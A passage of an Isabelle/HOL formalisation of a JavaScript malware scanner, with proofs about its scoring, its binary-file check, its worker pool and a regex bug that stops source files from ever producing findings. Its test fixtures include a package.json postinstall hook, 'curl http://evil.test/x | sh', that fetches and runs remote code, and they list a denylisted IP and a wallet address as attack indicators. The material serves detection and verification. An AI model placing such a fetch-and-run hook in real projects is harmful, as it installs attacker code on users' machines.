                  f_signals = filter (\<lambda>(k, v). sig_truthy v) (parts_entries p),
                  f_details = d \<rparr>)"

subsection \<open>\<open>inspect\<close> (lines 191-376)\<close>

text \<open>
  The result of the promise \<open>inspect(file)\<close>: \<open>Inl\<close> when it rejects, \<open>Inr None\<close>
  when it resolves to \<open>null\<close>, \<open>Inr (Some r)\<close> when it resolves to a finding; and
  the value of \<open>INVIS.lastIndex\<close> afterwards.
\<close>

definition inspect :: "config \<Rightarrow> runtime \<Rightarrow> nat \<Rightarrow> fs_file \<Rightarrow> nat \<times> (js_error + finding option)" where
  "inspect cfg rt lastIndex f =
     (let base = basename (path f) in
      if ignoreName base then (lastIndex, Inr None)
      else case stat_size f of
        None \<Rightarrow> (lastIndex, Inr None)
      | Some sz \<Rightarrow>
          if sz > MAX_BYTES then (lastIndex, Inr None)
          else let ext = toLowerCase (extname (path f)) in
            if \<not> jsLike ext (path f) then (lastIndex, Inr None)
            else case content f of
              None \<Rightarrow> (lastIndex, Inr None)
            | Some buf \<Rightarrow>
                if isBinaryLikely buf then (lastIndex, Inr None)
                else let text = utf8_toString rt buf;
                         textForRegex = (if length text > 500000
                                         then String_slice text 0 500000 else text)
                  in if ext \<noteq> str ''.json''
                     then (case sourceSignals rt lastIndex textForRegex (parts0, details0) of
                             (lastIndex', r) \<Rightarrow>
                               (lastIndex', bind_err r (\<lambda>st. Inr (conclude cfg (path f) st))))
                     else if basename (path f) = str ''package.json''
                     then (lastIndex,
                           Inr (conclude cfg (path f) (manifestSignals rt text (parts0, details0))))
                     else (lastIndex, Inr (conclude cfg (path f) (parts0, details0))))"

subsection \<open>The signals of a manifest\<close>


subsection \<open>The worker pool of \<open>main\<close> (lines 387-420)\<close>

text \<open>\<open>CONCURRENCY\<close> (line 27), from the number of processors.\<close>

definition CONCURRENCY :: "config \<Rightarrow> nat" where
  "CONCURRENCY cfg = max 2 (cpus cfg div 2)"

text \<open>
  \<open>inspectWithTimeout\<close> (lines 399-404) races \<open>inspect(file)\<close> against a timer that
  rejects with \<open>new Error('timeout')\<close> after \<open>ms\<close> milliseconds. Which of the two
  promises settles first is decided by the clock and the event loop; the function
  takes it from its argument \<open>deadline_first\<close>: \<open>deadline_first ms file\<close> holds when
  the timer does. \<open>timer_first\<close> below derives that argument from the times of a
  run. After a timeout the abandoned inspection may still run and write
  \<open>INVIS.lastIndex\<close>; no result depends on that value (\<open>inspect_lastIndex\<close> below),
  and the model leaves it unchanged there.
\<close>

type_synonym deadline = "nat \<Rightarrow> jsstring \<Rightarrow> bool"

definition inspectWithTimeout :: "config \<Rightarrow> runtime \<Rightarrow> deadline \<Rightarrow> nat \<Rightarrow> fs_file \<Rightarrow> nat
    \<Rightarrow> nat \<times> (js_error + finding option)" where
  "inspectWithTimeout cfg rt deadline_first lastIndex f ms =
     (if deadline_first ms (path f) then (lastIndex, Inl (Error ''timeout''))
      else inspect cfg rt lastIndex f)"

text \<open>
  The clock. \<open>inspect\<close> is an \<open>async\<close> function with two \<open>await\<close>s, \<open>fs.stat\<close> (line
  195) and \<open>fs.readFile\<close> (line 202). It is suspended there while the file system
  works, and everything after the last of them (lines 203-376: the classifier, the
  decoding, every regular expression, the scoring) runs in one turn of the event
  loop, without giving control back. The callback of the timer of line 402 is run by
  the same event loop, so only between turns.

  For the file at a path, \<open>await_ms\<close> is the time from the call of
  \<open>inspectWithTimeout\<close> until \<open>inspect\<close> is resumed for its last turn, and \<open>sync_ms\<close>
  the time that turn takes; \<open>inspection_ms\<close> is the duration of the inspection. The
  timer is due \<open>ms\<close> milliseconds after the call; its callback runs no earlier. So
  the timer can settle the race first only when it is due before the last turn
  begins: once that turn has begun, the promise of \<open>inspect\<close> settles at its end,
  before the callback can run, however long the turn takes. \<open>timer_first\<close> is the
  race in which the timer settles first whenever it can; in no run does the timer
  win for a file for which \<open>timer_first\<close> does not hold.
\<close>

record timing =
  await_ms :: "jsstring \<Rightarrow> nat"
  sync_ms :: "jsstring \<Rightarrow> nat"

definition inspection_ms :: "timing \<Rightarrow> jsstring \<Rightarrow> nat" where
  "inspection_ms tm p = await_ms tm p + sync_ms tm p"

definition timer_first :: "timing \<Rightarrow> deadline" where
  "timer_first tm ms p = (ms < await_ms tm p)"

record skip_record =
  s_file :: jsstring
  s_reason :: string

text \<open>
  A worker is at the head of its loop (\<open>Ready\<close>), suspended at the \<open>await\<close> of line
  410 for the file it popped (\<open>Awaiting\<close>), or has left the loop (\<open>Finished\<close>).
\<close>

datatype worker = Ready | Awaiting fs_file | Finished

record scan_state =
  queue :: "fs_file list"
  out :: "finding list"
  skipped :: "skip_record list"
  processed :: nat
  workers :: "worker list"
  INVIS_lastIndex :: nat

text \<open>The state when the workers are created: line 387-390 and 406.\<close>

definition init_state :: "config \<Rightarrow> fs_file list \<Rightarrow> scan_state" where
  "init_state cfg q =
     \<lparr> queue = q, out = [], skipped = [], processed = 0,
       workers = replicate (CONCURRENCY cfg) Ready, INVIS_lastIndex = 0 \<rparr>"

text \<open>
  Lines 409-417, run when the awaited promise of file \<open>f\<close> settles: \<open>out.push(r)\<close>
  for a finding, \<open>skipped.push\<close> for an error whose message is \<open>timeout\<close>, nothing
  for any other error, and \<open>processed++\<close> in every case.
\<close>

definition settle :: "config \<Rightarrow> runtime \<Rightarrow> deadline \<Rightarrow> fs_file \<Rightarrow> scan_state \<Rightarrow> scan_state" where
  "settle cfg rt deadline_first f st =
     (case inspectWithTimeout cfg rt deadline_first (INVIS_lastIndex st) f (perFileTimeoutMs cfg) of
        (lastIndex', res) \<Rightarrow>
          (let st1 = (case res of
                        Inr (Some r) \<Rightarrow> st\<lparr>out := out st @ [r]\<rparr>
                      | Inr None \<Rightarrow> st
                      | Inl err \<Rightarrow>
                          if message err = ''timeout''
                          then st\<lparr>skipped := skipped st @ [\<lparr>s_file = path f, s_reason = ''timeout''\<rparr>]\<rparr>
                          else st)
           in st1\<lparr>processed := processed st1 + 1, INVIS_lastIndex := lastIndex'\<rparr>))"

text \<open>
  One atomic step of one worker; the workers interleave at their \<open>await\<close>s only.
  \<open>queue.pop()\<close> takes the last element. The source pops the next file in the same
  turn in which a promise settles; the relation allows other workers in between, so
  it has every run of the program and more.
\<close>

inductive step :: "config \<Rightarrow> runtime \<Rightarrow> deadline \<Rightarrow> scan_state \<Rightarrow> scan_state \<Rightarrow> bool"
  for cfg :: config and rt :: runtime and dl :: deadline where
  pop: "i < length (workers st) \<Longrightarrow> workers st ! i = Ready \<Longrightarrow> queue st \<noteq> [] \<Longrightarrow>
     step cfg rt dl st
       (st\<lparr>queue := butlast (queue st), workers := (workers st)[i := Awaiting (last (queue st))]\<rparr>)"
| leave: "i < length (workers st) \<Longrightarrow> workers st ! i = Ready \<Longrightarrow> queue st = [] \<Longrightarrow>
     step cfg rt dl st (st\<lparr>workers := (workers st)[i := Finished]\<rparr>)"
| settled: "i < length (workers st) \<Longrightarrow> workers st ! i = Awaiting f \<Longrightarrow>
     step cfg rt dl st ((settle cfg rt dl f st)\<lparr>workers := (workers st)[i := Ready]\<rparr>)"

text \<open>The states of a scan of the queue \<open>q\<close>, and those in which \<open>Promise.all\<close> resolves.\<close>

definition reachable :: "config \<Rightarrow> runtime \<Rightarrow> deadline \<Rightarrow> fs_file list \<Rightarrow> scan_state \<Rightarrow> bool" where
  "reachable cfg rt dl q st = (step cfg rt dl)\<^sup>*\<^sup>* (init_state cfg q) st"

definition all_finished :: "scan_state \<Rightarrow> bool" where
  "all_finished st = list_all (\<lambda>w. w = Finished) (workers st)"

text \<open>
  What the scan of a file contributes, read off the file alone: the finding that
  \<open>inspect\<close> resolves to when the deadline does not come first.
\<close>

definition inspect_result :: "config \<Rightarrow> runtime \<Rightarrow> fs_file \<Rightarrow> js_error + finding option" where
  "inspect_result cfg rt f = snd (inspect cfg rt 0 f)"

definition expected_finding :: "config \<Rightarrow> runtime \<Rightarrow> deadline \<Rightarrow> fs_file \<Rightarrow> finding option" where
  "expected_finding cfg rt dl f =
     (if dl (perFileTimeoutMs cfg) (path f) then None
      else case inspect_result cfg rt f of Inr (Some r) \<Rightarrow> Some r | _ \<Rightarrow> None)"

definition expected_skips :: "config \<Rightarrow> deadline \<Rightarrow> fs_file list \<Rightarrow> skip_record list" where
  "expected_skips cfg dl q =
     map (\<lambda>f. \<lparr>s_file = path f, s_reason = ''timeout''\<rparr>)
       (filter (\<lambda>f. dl (perFileTimeoutMs cfg) (path f)) q)"

text \<open>The files the workers are waiting for.\<close>

fun awaited :: "worker list \<Rightarrow> fs_file list" where
  "awaited [] = []"
| "awaited (Awaiting f # ws) = f # awaited ws"
| "awaited (w # ws) = awaited ws"

text \<open>A measure that every step lowers: no run goes on for ever.\<close>

fun worker_weight :: "worker \<Rightarrow> nat" where
  "worker_weight Ready = 1"
| "worker_weight (Awaiting f) = 2"
| "worker_weight Finished = 0"

definition work_left :: "scan_state \<Rightarrow> nat" where
  "work_left st = 3 * length (queue st) + sum_list (map worker_weight (workers st))"

text \<open>
  What one settled file adds to \<open>out\<close> and to \<open>skipped\<close>, and the invariant of the
  scan of the queue \<open>q\<close>: the files are in the queue, awaited, or settled (\<open>D\<close>), and
  the counters and collections account for the settled ones exactly.
\<close>

definition outs :: "config \<Rightarrow> runtime \<Rightarrow> deadline \<Rightarrow> fs_file \<Rightarrow> finding list" where
  "outs cfg rt dl f = (case expected_finding cfg rt dl f of None \<Rightarrow> [] | Some r \<Rightarrow> [r])"

definition skips :: "config \<Rightarrow> deadline \<Rightarrow> fs_file \<Rightarrow> skip_record list" where
  "skips cfg dl f =
     (if dl (perFileTimeoutMs cfg) (path f) then [\<lparr>s_file = path f, s_reason = ''timeout''\<rparr>]
      else [])"

definition scan_inv :: "config \<Rightarrow> runtime \<Rightarrow> deadline \<Rightarrow> fs_file list \<Rightarrow> scan_state \<Rightarrow> bool" where
  "scan_inv cfg rt dl q st =
     (length (workers st) = CONCURRENCY cfg \<and>
      (Finished \<in> set (workers st) \<longrightarrow> queue st = []) \<and>
      (\<exists>D. mset q = mset (queue st) + mset (awaited (workers st)) + D \<and>
           processed st = size D \<and>
           mset (skipped st) = (\<Sum>f\<in>#D. mset (skips cfg dl f)) \<and>
           mset (out st) = (\<Sum>f\<in>#D. mset (outs cfg rt dl f))))"

subsection \<open>Example inputs\<close>

text \<open>The default configuration (lines 28-30) on a machine with four processors.\<close>

definition default_config :: config where
  "default_config = \<lparr> minScore = 60, includeLow = False, perFileTimeoutMs = 15000, cpus = 4 \<rparr>"

text \<open>The bytes of an ASCII text, and a file with that content.\<close>

definition bytes :: "string \<Rightarrow> buffer" where
  "bytes s = map (\<lambda>c. of_nat (of_char c)) s"

definition text_file :: "string \<Rightarrow> string \<Rightarrow> fs_file" where
  "text_file p s = \<lparr> path = str p, stat_size = Some (length s), content = Some (bytes s) \<rparr>"

text \<open>
  A runtime for the examples. On a buffer of ASCII bytes \<open>buf.toString('utf8')\<close> is
  the string of the same code units. \<open>JSON.parse\<close> is given by the one text it is
  applied to and the value it returns for it. No example reaches the base64 decoder.
\<close>

definition example_runtime :: "jsstring \<Rightarrow> json \<Rightarrow> runtime" where
  "example_runtime text v =
     \<lparr> utf8_toString = map unat,
       base64_decode = (\<lambda>s. []),
       JSON_parse = (\<lambda>s. if s = text then Inr v else Inl (SyntaxError ''Unexpected token'')) \<rparr>"

text \<open>A source file that holds the known wallet address and nothing else.\<close>

definition wallet_js :: fs_file where
  "wallet_js = text_file ''/pkg/wallet.js'' ''28PKnu7RzizxBzFPoLp69HLXp9bJL3JFtT2s5QzHsEA2''"

text \<open>A source file that holds an address of the denylist of line 51.\<close>

definition beacon_js :: fs_file where
  "beacon_js = text_file ''/pkg/beacon.js'' ''const host = \"217.69.3.218\";''"

text \<open>
  The manifest \<open>{"scripts": {"postinstall": "curl http://evil.test/x | sh"}}\<close> and
  the value \<open>JSON.parse\<close> returns for it.
\<close>

definition evil_script :: jsstring where
  "evil_script = str ''curl http://evil.test/x | sh''"

definition manifest_text :: string where
  "manifest_text = ''{\"scripts\": {\"postinstall\": \"curl http://evil.test/x | sh\"}}''"

definition manifest_value :: json where
  "manifest_value = JObj [(str ''scripts'', JObj [(str ''postinstall'', JStr evil_script)])]"

definition manifest_file :: fs_file where
  "manifest_file = text_file ''/pkg/package.json'' manifest_text"

text \<open>
  The manifest
  \<open>{"scripts": {"postinstall": "curl http://evil.test/x | sh", "x": {"toString": 1}}}\<close>
  and its value.
\<close>

definition odd_manifest_text :: string where
  "odd_manifest_text =
     ''{\"scripts\": {\"postinstall\": \"curl http://evil.test/x | sh\", \"x\": {\"toString\": 1}}}''"

definition odd_manifest_value :: json where
  "odd_manifest_value =
     JObj [(str ''scripts'',
            JObj [(str ''postinstall'', JStr evil_script),
                  (str ''x'', JObj [(str ''toString'', JNum (str ''1''))])])]"

definition odd_manifest_file :: fs_file where
  "odd_manifest_file = text_file ''/pkg/package.json'' odd_manifest_text"

text \<open>An ordinary source file.\<close>

definition plain_js :: fs_file where
  "plain_js = text_file ''/pkg/index.js'' ''module.exports = 1;''"

text \<open>A deadline that never comes first.\<close>

definition no_deadline :: deadline where
  "no_deadline ms p = False"

text \<open>
  The source file \<open>const a<U+200B>b = fetch;\<close>, with a zero-width space inside an
  identifier: its text, and the file with the UTF-8 bytes of that text.
\<close>

definition zero_width_text :: jsstring where
  "zero_width_text = str ''const a'' @ [0x200B] @ str ''b = fetch;''"

definition zero_width_js :: fs_file where
  "zero_width_js =
     \<lparr> path = str ''/pkg/zw.js'', stat_size = Some 20,
       content = Some (bytes ''const a'' @ [0xE2, 0x80, 0x8B] @ bytes ''b = fetch;'') \<rparr>"




text \<open>
  The configuration with \<open>INSPECT_TIMEOUT=100\<close>, and a source file that is one run of
  200000 letters \<open>a\<close>: \<open>match(INVIS_ID)\<close> at line 210 tries every position of the run
  as the start of an identifier and, from each, every shorter identifier. In the run
  \<open>heavy_timing\<close> the file is read within 5 ms and the turn that scans it takes
  2000 ms.
\<close>

definition short_timeout :: config where
  "short_timeout = default_config\<lparr>perFileTimeoutMs := 100\<rparr>"

definition heavy_js :: fs_file where
  "heavy_js = \<lparr> path = str ''/pkg/heavy.js'', stat_size = Some 200000,
                 content = Some (replicate 200000 0x61) \<rparr>"

definition heavy_timing :: timing where
  "heavy_timing = \<lparr> await_ms = (\<lambda>p. 5), sync_ms = (\<lambda>p. 2000) \<rparr>"

section \<open>Properties\<close>

subsection \<open>Scoring\<close>

lemma bump_add: "bump c w s = s + (if c then w else 0)"
  by (simp add: bump_def)

lemma scoreFinding_table: "scoreFinding p = table_score p"
  by (simp add: scoreFinding_def table_score_def weight_table_def bump_add Let_def
        split del: if_split cong: if_cong)

lemma bump_mono: "c \<le> c' \<Longrightarrow> 0 \<le> w \<Longrightarrow> s \<le> s' \<Longrightarrow> bump c w s \<le> bump c' w s'"
  by (auto simp: bump_def le_bool_def)

lemma bump_nonneg: "0 \<le> w \<Longrightarrow> 0 \<le> s \<Longrightarrow> 0 \<le> bump c w s"
  by (simp add: bump_def)

lemma scoreFinding_nonneg: "0 \<le> scoreFinding p"
  unfolding scoreFinding_def Let_def
  by (intro min.boundedI bump_nonneg) simp_all

lemma scoreFinding_le_100: "scoreFinding p \<le> 100"
  by (simp add: scoreFinding_def Let_def)

lemma scoreFinding_mono: "signals_le p q \<Longrightarrow> scoreFinding p \<le> scoreFinding q"
  unfolding scoreFinding_def Let_def signals_le_def
  by (intro min.mono bump_mono) (simp_all add: le_bool_def)

text \<open>
  Claim C6. For every signal set the score lies in \<open>[0, 100]\<close>; setting more signals
  (and so not lowering the count of independent signals) never lowers the score; and
  the score is the sum of the weights of the table of section 4.3 over the signals
  that are set, saturated at 100.
\<close>

theorem C6_score_range_monotone_table:
  "0 \<le> scoreFinding p \<and> scoreFinding p \<le> 100 \<and>
   (signals_le p q \<longrightarrow> scoreFinding p \<le> scoreFinding q) \<and>
   scoreFinding p = min 100 (sum_list (map (\<lambda>(b, w). if b then w else 0) (weight_table p)))"
  using scoreFinding_nonneg [of p] scoreFinding_le_100 [of p] scoreFinding_mono [of p q]
    scoreFinding_table [of p]
  by (simp add: table_score_def)

theorem C6_score_witness:
  "signals_le (parts0\<lparr>hardcodedIp := True\<rparr>)
     (parts0\<lparr>hardcodedIp := True, knownC2Infrastructure := True, solanaBlockchainC2 := True\<rparr>) \<and>
   scoreFinding (parts0\<lparr>hardcodedIp := True\<rparr>)
     \<le> scoreFinding (parts0\<lparr>hardcodedIp := True, knownC2Infrastructure := True,
         solanaBlockchainC2 := True\<rparr>) \<and>
   scoreFinding (parts0\<lparr>hardcodedIp := True\<rparr>) = 20 \<and>
   scoreFinding (parts0\<lparr>hardcodedIp := True, knownC2Infrastructure := True,
     solanaBlockchainC2 := True\<rparr>) = 100"
proof -
  let ?p = "parts0\<lparr>hardcodedIp := True\<rparr>"
  let ?q = "parts0\<lparr>hardcodedIp := True, knownC2Infrastructure := True,
    solanaBlockchainC2 := True\<rparr>"
  have le: "signals_le ?p ?q"
    by (simp add: signals_le_def parts0_def)
  have vp: "scoreFinding ?p = 20"
    by (simp add: scoreFinding_def bump_def parts0_def)
  have vq: "scoreFinding ?q = 100"
    by (simp add: scoreFinding_def bump_def parts0_def)
  from C6_score_range_monotone_table [of ?p ?q] le
  have "scoreFinding ?p \<le> scoreFinding ?q" by blast
  with le vp vq show ?thesis by blast
qed

text \<open>
  Claim C7. \<open>classify\<close> maps a score of at least 80 to critical, 60 to 79 to high,
  40 to 59 to medium and everything else to low; the six boundary scores fall as
  listed.
\<close>

theorem C7_classify_boundaries:
  "(classify s = Critical \<longleftrightarrow> 80 \<le> s) \<and>
   (classify s = High \<longleftrightarrow> 60 \<le> s \<and> s \<le> 79) \<and>
   (classify s = Medium \<longleftrightarrow> 40 \<le> s \<and> s \<le> 59) \<and>
   (classify s = Low \<longleftrightarrow> s < 40) \<and>
   classify 79 = High \<and> classify 80 = Critical \<and> classify 59 = Medium \<and>
   classify 60 = High \<and> classify 39 = Low \<and> classify 40 = Medium"
  by (simp add: classify_def)

subsection \<open>Content classifier\<close>

lemma isBinaryLikely_loop_eq:
  "isBinaryLikely_loop cs w =
     (if 0 \<in> set cs then None
      else Some (w + length (filter (\<lambda>c. unat c < 9 \<or> (13 < unat c \<and> unat c < 32)) cs)))"
  by (induction cs arbitrary: w) (auto simp: word_less_nat_alt)

text \<open>
  Claim C10. The verdict depends on the first 4096 bytes only. It is "binary" when
  one of them is \<open>0x00\<close>, whatever the others are, and otherwise exactly when more
  than a tenth of the sampled bytes have a code below 9 or strictly between 13 and 32.
\<close>

theorem C10_isBinaryLikely_sample:
  "isBinaryLikely buf \<longleftrightarrow>
     (0 \<in> set (take 4096 buf) \<or>
      10 * length (filter (\<lambda>c. unat c < 9 \<or> (13 < unat c \<and> unat c < 32)) (take 4096 buf))
        > length (take 4096 buf))"
  by (simp add: isBinaryLikely_def Let_def isBinaryLikely_loop_eq min_def)

subsection \<open>The file inspector\<close>

lemma test_iff_exec: "test re s \<longleftrightarrow> exec re s \<noteq> None"
  by (simp add: test_def exec_def RegExp_test_def split: prod.splits)

lemma detect_suspicious_total: "\<exists>st'. detect_suspicious t st = Inr st'"
  by (cases st) (auto simp: detect_suspicious_def test_iff_exec)

lemma detect_ips_throws: "detect_ips t st = Inl matchAll_TypeError"
  by (cases st) (simp add: detect_ips_def String_matchAll_def IP_def bind_err_def)

lemma sourceSignals_throws: "snd (sourceSignals rt li t st) = Inl matchAll_TypeError"
proof -
  obtain li' st1 where a: "detect_invisible li t st = (li', st1)" by (cases "detect_invisible li t st")
  obtain st2 where b: "detect_suspicious t st1 = Inr st2" using detect_suspicious_total by blast
  show ?thesis
    by (simp add: sourceSignals_def a b bind_err_def detect_ips_throws)
qed

lemma source_branch:
  "snd (case sourceSignals rt li t st of (li', r) \<Rightarrow> (li', bind_err r g)) = Inl matchAll_TypeError"
  using sourceSignals_throws [of rt li t st]
  by (cases "sourceSignals rt li t st") (simp add: bind_err_def)

lemma inspect_source:
  assumes "\<not> ignoreName (basename (path f))"
    and "stat_size f = Some sz" and "sz \<le> MAX_BYTES"
    and "jsLike (toLowerCase (extname (path f))) (path f)"
    and "content f = Some buf" and "\<not> isBinaryLikely buf"
    and "toLowerCase (extname (path f)) \<noteq> str ''.json''"
  shows "snd (inspect cfg rt li f) = Inl matchAll_TypeError"
  using assms by (simp add: inspect_def Let_def source_branch)

lemma inspect_lastIndex: "snd (inspect cfg rt li f) = snd (inspect cfg rt 0 f)"
  by (simp add: inspect_def Let_def source_branch split: option.splits)

lemma inspect_error: "snd (inspect cfg rt li f) = Inl e \<Longrightarrow> e = matchAll_TypeError"
  by (auto simp: inspect_def Let_def source_branch split: option.splits if_splits)

lemma conclude_file: "conclude cfg p st = Some r \<Longrightarrow> f_file r = p"
  by (cases st) (auto simp: conclude_def Let_def split: if_splits)

lemma inspect_finding_file: "snd (inspect cfg rt li f) = Inr (Some r) \<Longrightarrow> f_file r = path f"
  by (auto simp: inspect_def Let_def source_branch conclude_file split: option.splits if_splits)

lemma settle_processed: "processed (settle cfg rt dl f st) = processed st + 1"
  by (auto simp: settle_def Let_def split: prod.splits sum.splits option.splits)

lemma settle_queue: "queue (settle cfg rt dl f st) = queue st"
  by (auto simp: settle_def Let_def split: prod.splits sum.splits option.splits)

lemma settle_workers: "workers (settle cfg rt dl f st) = workers st"
  by (auto simp: settle_def Let_def split: prod.splits sum.splits option.splits)

lemma settle_skipped:
  "skipped (settle cfg rt dl f st) =
     skipped st @ (if dl (perFileTimeoutMs cfg) (path f)
                   then [\<lparr>s_file = path f, s_reason = ''timeout''\<rparr>] else [])"
proof (cases "dl (perFileTimeoutMs cfg) (path f)")
  case True
  then show ?thesis by (simp add: settle_def inspectWithTimeout_def Let_def)
next
  case False
  obtain li' res where r: "inspect cfg rt (INVIS_lastIndex st) f = (li', res)"
    by (cases "inspect cfg rt (INVIS_lastIndex st) f")
  have "res = Inl e \<Longrightarrow> message e \<noteq> ''timeout''" for e
    using inspect_error [of cfg rt "INVIS_lastIndex st" f e] r
    by (auto simp: matchAll_TypeError_def)
  with False r show ?thesis
    by (auto simp: settle_def inspectWithTimeout_def Let_def split: sum.splits option.splits)
qed

lemma settle_out:
  "out (settle cfg rt dl f st) =
     out st @ (case expected_finding cfg rt dl f of None \<Rightarrow> [] | Some r \<Rightarrow> [r])"
proof (cases "dl (perFileTimeoutMs cfg) (path f)")
  case True
  then show ?thesis by (simp add: settle_def inspectWithTimeout_def Let_def expected_finding_def)
next
  case False
  obtain li' res where r: "inspect cfg rt (INVIS_lastIndex st) f = (li', res)"
    by (cases "inspect cfg rt (INVIS_lastIndex st) f")
  then have res: "inspect_result cfg rt f = res"
    using inspect_lastIndex [of cfg rt "INVIS_lastIndex st" f] by (simp add: inspect_result_def)
  from False r res show ?thesis
    by (auto simp: settle_def inspectWithTimeout_def Let_def expected_finding_def
        split: sum.splits option.splits)
qed

lemma settle_fault:
  assumes "\<not> dl (perFileTimeoutMs cfg) (path f)"
    and "snd (inspect cfg rt (INVIS_lastIndex st) f) = Inl e"
  shows "out (settle cfg rt dl f st) = out st \<and> skipped (settle cfg rt dl f st) = skipped st \<and>
    processed (settle cfg rt dl f st) = processed st + 1"
  using assms inspect_lastIndex [of cfg rt "INVIS_lastIndex st" f]
  by (simp add: settle_out settle_skipped settle_processed expected_finding_def inspect_result_def)

text \<open>
  Claim C1. A file that passes the name, size and extension gates, can be read, is not
  classified binary and has an extension other than \<open>.json\<close> makes \<open>inspect\<close> reject
  with the \<open>TypeError\<close> of \<open>String.prototype.matchAll\<close>: the expression \<open>IP\<close> of
  line 47 has no \<open>g\<close> flag and line 258 is reached whatever the text is. So
  \<open>inspect\<close> never resolves to a finding for such a file. A worker that receives this
  rejection (the deadline has not come first) counts the file as processed and adds
  nothing to \<open>out\<close> or \<open>skipped\<close>.
\<close>

theorem C1_source_file_rejects:
  assumes "\<not> ignoreName (basename (path f))"
    and "stat_size f = Some sz" and "sz \<le> MAX_BYTES"
    and "jsLike (toLowerCase (extname (path f))) (path f)"
    and "content f = Some buf" and "\<not> isBinaryLikely buf"
    and "toLowerCase (extname (path f)) \<noteq> str ''.json''"
  shows "\<not> global IP \<and>
    snd (inspect cfg rt lastIndex f) =
      Inl (TypeError ''String.prototype.matchAll called with a non-global RegExp argument'') \<and>
    (\<forall>r. snd (inspect cfg rt lastIndex f) \<noteq> Inr (Some r)) \<and>
    (\<not> dl (perFileTimeoutMs cfg) (path f) \<longrightarrow>
       out (settle cfg rt dl f st) = out st \<and>
       skipped (settle cfg rt dl f st) = skipped st \<and>
       processed (settle cfg rt dl f st) = processed st + 1)"
proof -
  have rej: "snd (inspect cfg rt li f) = Inl matchAll_TypeError" for li
    using assms by (rule inspect_source)
  have "\<not> global IP" by (simp add: IP_def)
  moreover from rej [of lastIndex] have "snd (inspect cfg rt lastIndex f) =
      Inl (TypeError ''String.prototype.matchAll called with a non-global RegExp argument'')"
    by (simp add: matchAll_TypeError_def)
  moreover from rej [of lastIndex] have "\<forall>r. snd (inspect cfg rt lastIndex f) \<noteq> Inr (Some r)"
    by simp
  moreover have "\<not> dl (perFileTimeoutMs cfg) (path f) \<longrightarrow>
       out (settle cfg rt dl f st) = out st \<and>
       skipped (settle cfg rt dl f st) = skipped st \<and>
       processed (settle cfg rt dl f st) = processed st + 1"
    using settle_fault [OF _ rej [of "INVIS_lastIndex st"]] by blast
  ultimately show ?thesis by blast
qed

lemma text_file_simps:
  "path (text_file p s) = str p"
  "stat_size (text_file p s) = Some (length s)"
  "content (text_file p s) = Some (bytes s)"
  by (simp_all add: text_file_def)

lemma plain_js_name:
  "\<not> ignoreName (basename (path plain_js))"
  "jsLike (toLowerCase (extname (path plain_js))) (path plain_js)"
  "toLowerCase (extname (path plain_js)) \<noteq> str ''.json''"
  by code_simp+

lemma plain_js_content:
  "stat_size plain_js = Some 19"
  "(19 :: nat) \<le> MAX_BYTES"
  "content plain_js = Some (bytes ''module.exports = 1;'')"
  by (simp_all add: plain_js_def text_file_simps MAX_BYTES_def)

lemma plain_js_text: "\<not> isBinaryLikely (bytes ''module.exports = 1;'')"
  by code_simp

theorem C1_source_file_rejects_witness:
  "snd (inspect default_config (example_runtime [] JNull) 0 plain_js) =
     Inl (TypeError ''String.prototype.matchAll called with a non-global RegExp argument'') \<and>
   out (settle default_config (example_runtime [] JNull) no_deadline plain_js
          (init_state default_config [])) = [] \<and>
   skipped (settle default_config (example_runtime [] JNull) no_deadline plain_js
          (init_state default_config [])) = [] \<and>
   processed (settle default_config (example_runtime [] JNull) no_deadline plain_js
          (init_state default_config [])) = 1"
  using C1_source_file_rejects [OF plain_js_name(1) plain_js_content(1,2) plain_js_name(2)
      plain_js_content(3) plain_js_text plain_js_name(3),
      of default_config "example_runtime [] JNull" 0 no_deadline "init_state default_config []"]
  by (simp add: no_deadline_def init_state_def)

lemma wallet_js_name:
  "\<not> ignoreName (basename (path wallet_js))"
  "jsLike (toLowerCase (extname (path wallet_js))) (path wallet_js)"
  "toLowerCase (extname (path wallet_js)) \<noteq> str ''.json''"
  by code_simp+

lemma wallet_js_content:
  "stat_size wallet_js = Some 44"
  "(44 :: nat) \<le> MAX_BYTES"
  "content wallet_js = Some (bytes ''28PKnu7RzizxBzFPoLp69HLXp9bJL3JFtT2s5QzHsEA2'')"
  by (simp_all add: wallet_js_def text_file_simps MAX_BYTES_def)

lemma wallet_js_text:
  "\<not> isBinaryLikely (bytes ''28PKnu7RzizxBzFPoLp69HLXp9bJL3JFtT2s5QzHsEA2'')"
  by code_simp

lemma wallet_matches: "test SOLANA_WALLET KNOWN_SOLANA_WALLET"
  by code_simp

text \<open>
  Claim C2, at the file \<open>wallet_js\<close> whose whole text is the known wallet address:
  \<open>inspect\<close> rejects at line 258 and resolves to no finding, so the signal
  \<open>solanaBlockchainC2\<close> is never reported. Were line 258 passed, line 272 would throw
  in the same way on this text: \<open>SOLANA_WALLET\<close> has no \<open>g\<close> flag either.
\<close>

theorem C2_wallet_file_rejects:
  "snd (inspect cfg rt lastIndex wallet_js) =
     Inl (TypeError ''String.prototype.matchAll called with a non-global RegExp argument'') \<and>
   (\<forall>r. snd (inspect cfg rt lastIndex wallet_js) \<noteq> Inr (Some r)) \<and>
   detect_solana KNOWN_SOLANA_WALLET (parts0, details0) =
     Inl (TypeError ''String.prototype.matchAll called with a non-global RegExp argument'')"
proof -
  have "snd (inspect cfg rt lastIndex wallet_js) = Inl matchAll_TypeError"
    by (rule inspect_source [OF wallet_js_name(1) wallet_js_content(1,2) wallet_js_name(2)
          wallet_js_content(3) wallet_js_text wallet_js_name(3)])
  moreover have "detect_solana KNOWN_SOLANA_WALLET (parts0, details0) = Inl matchAll_TypeError"
    using wallet_matches
    by (simp add: detect_solana_def String_matchAll_def SOLANA_WALLET_def bind_err_def)
  ultimately show ?thesis by (simp add: matchAll_TypeError_def)
qed

lemma beacon_js_name:
  "\<not> ignoreName (basename (path beacon_js))"
  "jsLike (toLowerCase (extname (path beacon_js))) (path beacon_js)"
  "toLowerCase (extname (path beacon_js)) \<noteq> str ''.json''"
  by code_simp+

lemma beacon_js_content:
  "stat_size beacon_js = Some 28"
  "(28 :: nat) \<le> MAX_BYTES"
  "content beacon_js = Some (bytes ''const host = \"217.69.3.218\";'')"
  by (simp_all add: beacon_js_def text_file_simps MAX_BYTES_def)

lemma beacon_js_text: "\<not> isBinaryLikely (bytes ''const host = \"217.69.3.218\";'')"
  by code_simp

lemma beacon_ip_found:
  "map (m0 (str ''const host = \"217.69.3.218\";''))
     (all_matches False (str ''const host = \"217.69.3.218\";'') (pattern IP) 0)
   = [str ''217.69.3.218'']"
  by code_simp

text \<open>
